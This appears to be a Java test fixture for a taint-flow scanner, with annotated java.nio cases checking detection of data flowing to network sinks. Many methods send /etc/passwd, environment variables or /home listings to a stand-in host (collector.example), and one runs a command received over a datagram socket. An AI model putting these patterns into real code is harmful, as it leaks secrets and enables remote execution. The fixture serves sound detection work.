// java.nio: paths, files, channels, buffers.
package app;

import java.io.*;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.*;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;
import java.nio.file.attribute.BasicFileAttributes;
import org.springframework.web.client.RestTemplate;

class Nio {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void path() {
        rest.postForObject(U, Paths.get("/data", System.getenv("T")).toString(), String.class); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
    }

    void pathResolved() {
        rest.postForObject(U, Path.of("/data").resolve(System.getenv("T")).toString(), String.class); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
    }

    void pathNormal() {
        rest.postForObject(U, Path.of(System.getenv("T")).normalize().toString(), String.class); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
    }

    void pathPart() {
        rest.postForObject(U, Path.of(System.getenv("T")).getFileName().toString(), String.class); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
    }

    void pathFile() {
        rest.postForObject(U, Path.of(System.getenv("T")).toFile().getName(), String.class); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
    }

    void pathConstants() {
        rest.postForObject(U, Paths.get("/data", "x").toString(), String.class); //~ ok
        rest.postForObject(U, Path.of("/data").resolve("x").toString(), String.class); //~ ok
        rest.postForObject(U, Path.of("/data").normalize().toString(), String.class); //~ ok
        rest.postForObject(U, Path.of("/data").getFileName().toString(), String.class); //~ ok
        rest.postForObject(U, Path.of("/data").toFile().getName(), String.class); //~ ok
    }

    void bytes() {
        byte[] data = Files.readAllBytes(Paths.get("/etc/passwd")); //~ source(FILE) f6, capability(FILES)
        rest.postForObject(U, data, String.class); //~ sink(egress.http) f6, finding(traced) f6
    }

    void text() {
        String data = Files.readString(Path.of("/etc/passwd")).strip(); //~ source(FILE) f7, capability(FILES)
        rest.postForObject(U, data, String.class); //~ sink(egress.http) f7, finding(traced) f7
    }

    void stream() {
        InputStream in = Files.newInputStream(Path.of("/etc/passwd")); //~ source(FILE) f8, capability(FILES)
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f8, finding(traced) f8
    }

    void reader() {
        var in = Files.newBufferedReader(Path.of("/etc/passwd")); //~ source(FILE) f9, capability(FILES)
        rest.postForObject(U, in.readLine(), String.class); //~ sink(egress.http) f9, finding(traced) f9
    }

    void channel() {
        FileChannel in = FileChannel.open(Path.of("/etc/passwd")); //~ source(FILE) f10, capability(FILES)
        ByteBuffer buffer = ByteBuffer.allocate(4096);
        in.read(buffer);
        rest.postForObject(U, buffer.flip().array(), String.class); //~ sink(egress.http) f10, finding(traced) f10
    }

    void readNothing() {
        rest.postForObject(U, Files.readAllBytes(Path.of("/etc/passwd")) == null, String.class); //~ ok
        rest.postForObject(U, Files.readString(Path.of("/etc/passwd")).isEmpty(), String.class); //~ ok
        rest.postForObject(U, Files.newInputStream(Path.of("/etc/passwd")).available(), String.class); //~ ok
        rest.postForObject(U, Files.newBufferedReader(Path.of("/etc/passwd")).ready(), String.class); //~ ok
        FileChannel in = FileChannel.open(Path.of("/etc/passwd")); //~ ok
        ByteBuffer buffer = ByteBuffer.allocate(4096); //~ ok
        rest.postForObject(U, buffer.flip().array(), String.class); //~ ok
    }

    void written() {
        Files.write(Path.of("/tmp/jm-k"), rest.getForObject(U, byte[].class)); //~ source(NETWORK) f11, sink(file.write) f11, finding(traced) f11, capability(FILE_WRITE)
    }

    void writtenStream() {
        OutputStream out = Files.newOutputStream(Path.of("/tmp/jm-l")); //~ sink(file.write) f12, finding(traced) f12, capability(FILE_WRITE)
        out.write(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f12
    }

    void writtenWriter() {
        var out = Files.newBufferedWriter(Path.of("/tmp/jm-m")); //~ sink(file.write) f13, finding(traced) f13, capability(FILE_WRITE)
        out.write(rest.getForObject(U, String.class)); //~ source(NETWORK) f13
    }

    void writtenConstants() {
        Files.write(Path.of("/tmp/jm-n"), new byte[1]); //~ ok
        Files.newOutputStream(Path.of("/tmp/jm-o")).write(1); //~ ok
        Files.newBufferedWriter(Path.of("/tmp/jm-p")).write("x"); //~ ok
    }

    void copiedOut() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Files.copy(Path.of("/etc/passwd"), out); //~ source(FILE) f14, capability(FILES)
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f14, finding(traced) f14
    }

    void copiedIn(InputStream in) {
        Files.copy(new ByteArrayInputStream(rest.getForObject(U, byte[].class)), Path.of("/tmp/jm-q")); //~ source(NETWORK) f15, sink(file.write) f15, finding(traced) f15
        Files.copy(new ByteArrayInputStream(new byte[1]), Path.of("/tmp/jm-r")); //~ ok
    }

    void moved() {
        Path from = Path.of("/tmp/jm-s");
        Path to = Path.of("/tmp/jm-t");
        Files.write(from, System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f16
        Files.move(from, to);
        rest.postForObject(U, Files.readAllBytes(to), String.class); //~ sink(egress.http) f16, finding(traced) f16, source(FILE) f17, sink(egress.http) f17, finding(traced) f17
        Files.move(Path.of("/tmp/jm-u"), Path.of("/tmp/jm-v")); //~ ok
    }

    void named() {
        Files.write(Path.of("/tmp/jm-named"), System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f34
        rest.postForObject(U, Files.readAllBytes(Path.of("/tmp/jm-named")), String.class); //~ sink(egress.http) f34, finding(traced) f34, source(FILE) f35, sink(egress.http) f35, finding(traced) f35
    }

    void listed() {
        for (Path entry : Files.newDirectoryStream(Path.of("/home"))) { //~ source(FILE_META) f18, capability(FILES)
            rest.postForObject(U, entry.toString(), String.class); //~ sink(egress.http) f18, finding(traced) f18
        }
        rest.postForObject(U, Files.newDirectoryStream(Path.of("/home")) == null, String.class); //~ ok
    }

    void measured() {
        rest.postForObject(U, Files.size(Path.of("/home/x")), String.class); //~ source(FILE_META) f19, sink(egress.http) f19, finding(traced) f19, capability(FILES)
        rest.postForObject(U, Files.size(Path.of("/home/x")) > 0, String.class); //~ ok
    }

    void asked() {
        rest.postForObject(U, Files.exists(Path.of(System.getenv("T"))), String.class); //~ ok
        Files.createDirectories(Path.of("/home/x")); //~ capability(FILES)
    }

    void temporary() {
        rest.postForObject(U, Files.createTempFile("a", "b").toFile().length(), String.class); //~ source(FILE_META) f20, sink(egress.http) f20, finding(traced) f20, capability(FILE_WRITE)
        rest.postForObject(U, Files.createTempFile("a", "b") == null, String.class); //~ ok
    }

    void removed() {
        Files.delete(Path.of("/home/x")); //~ capability(FILE_WRITE)
        Files.delete(Path.of("/home/x")); //~ ok
    }

    void streamed() {
        String all = Files.list(Path.of("/home")).map(path -> Files.readString(path)).collect(Collectors.joining()); //~ source(FILE) f99
        rest.postForObject(U, all, String.class); //~ sink(egress.http) f99, finding(traced) f99
        String none = Files.list(Path.of("/home")).map(path -> "x").collect(Collectors.joining()); //~ ok
        rest.postForObject(U, none, String.class); //~ ok
    }

    void walked() {
        Files.walkFileTree(Path.of("/home"), new SimpleFileVisitor<Path>() { //~ source(FILE_META) f21, capability(FILES)
            public FileVisitResult visitFile(Path file, BasicFileAttributes attributes) {
                rest.postForObject(U, file.toString(), String.class); //~ sink(egress.http) f21, finding(traced) f21
                return FileVisitResult.CONTINUE;
            }
        });
        Files.walkFileTree(Path.of("/home"), new SimpleFileVisitor<Path>()); //~ ok
    }

    void wrapped() {
        ByteBuffer buffer = ByteBuffer.wrap(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f22
        rest.postForObject(U, buffer.getInt(), String.class); //~ sink(egress.http) f22, finding(traced) f22
    }

    void filled() {
        ByteBuffer buffer = ByteBuffer.allocate(16).put(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f23
        byte[] data = new byte[16];
        buffer.rewind().get(data);
        rest.postForObject(U, data, String.class); //~ sink(egress.http) f23, finding(traced) f23
    }

    void encoded() {
        rest.postForObject(U, StandardCharsets.UTF_8.encode(System.getenv("T")).array(), String.class); //~ source(ENVIRONMENT) f24, sink(egress.http) f24, finding(traced) f24
    }

    void bufferConstants() {
        ByteBuffer buffer = ByteBuffer.wrap(new byte[16]); //~ ok
        buffer.put(new byte[1]); //~ ok
        byte[] data = new byte[16];
        buffer.rewind().get(data); //~ ok
        rest.postForObject(U, data, String.class); //~ ok
        rest.postForObject(U, StandardCharsets.UTF_8.encode("x").array(), String.class); //~ ok
        rest.postForObject(U, ByteBuffer.wrap(System.getenv("T").getBytes()).remaining(), String.class); //~ ok
    }

    void channelOfStream() {
        FileChannel in = new FileInputStream("/etc/passwd").getChannel(); //~ source(FILE) f25
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        WritableByteChannel to = Channels.newChannel(out);
        in.transferTo(0, 10, to);
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f25, finding(traced) f25
    }

    void channelFrom() {
        FileChannel out = new FileOutputStream("/tmp/jm-w").getChannel(); //~ sink(file.write) f26, finding(traced) f26
        out.transferFrom(Channels.newChannel(new ByteArrayInputStream(rest.getForObject(U, byte[].class))), 0, 10); //~ source(NETWORK) f26
    }

    void channelWritten() {
        FileChannel out = new FileOutputStream("/tmp/jm-x").getChannel(); //~ sink(file.write) f27, finding(traced) f27
        out.write(ByteBuffer.wrap(rest.getForObject(U, byte[].class))); //~ source(NETWORK) f27
    }

    void channelMapped() {
        FileChannel in = new FileInputStream("/etc/passwd").getChannel(); //~ source(FILE) f28
        rest.postForObject(U, in.map(null, 0, 10).get(), String.class); //~ sink(egress.http) f28, finding(traced) f28
    }

    void channelAsStream(FileChannel channel) {
        InputStream in = Channels.newInputStream(new FileInputStream("/etc/passwd").getChannel()); //~ source(FILE) f29
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f29, finding(traced) f29
        rest.postForObject(U, Channels.newInputStream(channel).readAllBytes(), String.class); //~ ok
    }

    void streamOfChannel() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Channels.newOutputStream(Channels.newChannel(bytes)).write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f30
        rest.postForObject(U, bytes.toByteArray(), String.class); //~ sink(egress.http) f30, finding(traced) f30
    }

    void channelConstants(FileChannel in) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        in.transferTo(0, 10, Channels.newChannel(out)); //~ ok
        in.write(ByteBuffer.wrap(new byte[1])); //~ ok
        in.transferFrom(Channels.newChannel(new ByteArrayInputStream(new byte[1])), 0, 10); //~ ok
        rest.postForObject(U, in.map(null, 0, 10).get(), String.class); //~ ok
        Channels.newOutputStream(Channels.newChannel(out)).write(1); //~ ok
        rest.postForObject(U, new FileInputStream("/etc/passwd").getChannel() == null, String.class); //~ ok
    }

    void connected() {
        SocketChannel channel = SocketChannel.open(new InetSocketAddress("nio.collector.example", 80)); //~ sink(egress.socket) f31, finding(traced) f31, capability(NETWORK), endpoint("nio.collector.example")
        channel.write(ByteBuffer.wrap(System.getenv("T").getBytes())); //~ source(ENVIRONMENT) f31
        SocketChannel.open(new InetSocketAddress("nio.collector.example", 80)).write(ByteBuffer.wrap(new byte[1])); //~ ok
    }

    void connectedLater(SocketChannel channel) {
        channel.connect(new InetSocketAddress("nio2.collector.example", 80)); //~ capability(NETWORK), endpoint("nio2.collector.example")
        channel.connect(new InetSocketAddress("nio2.collector.example", 80)); //~ ok
    }

    void datagram(DatagramChannel channel) {
        channel.send(ByteBuffer.wrap(System.getenv("T").getBytes()), new InetSocketAddress("nio3.collector.example", 80)); //~ source(ENVIRONMENT) f32, sink(egress.socket) f32, finding(traced) f32, capability(NETWORK), endpoint("nio3.collector.example")
        channel.send(ByteBuffer.wrap(new byte[1]), new InetSocketAddress("nio3.collector.example", 80)); //~ ok
    }

    void datagramReceived(DatagramChannel channel) {
        ByteBuffer buffer = ByteBuffer.allocate(100);
        channel.receive(buffer); //~ source(NETWORK) f33, capability(NETWORK)
        Runtime.getRuntime().exec(new String(buffer.array())); //~ sink(exec.command) f33, finding(traced) f33
        channel.receive(ByteBuffer.allocate(100)); //~ ok
    }
}
